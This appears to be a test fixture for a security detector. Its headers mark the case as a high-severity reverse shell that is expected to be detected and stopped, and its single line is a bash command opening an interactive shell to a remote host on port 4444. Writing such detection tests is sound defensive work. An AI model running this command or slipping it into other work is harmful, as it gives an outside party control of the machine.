# expect: detected
# threat: 27 reverse shell
# at: either
# family: reverse-shell
# severity: high
# decision: stopped

bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
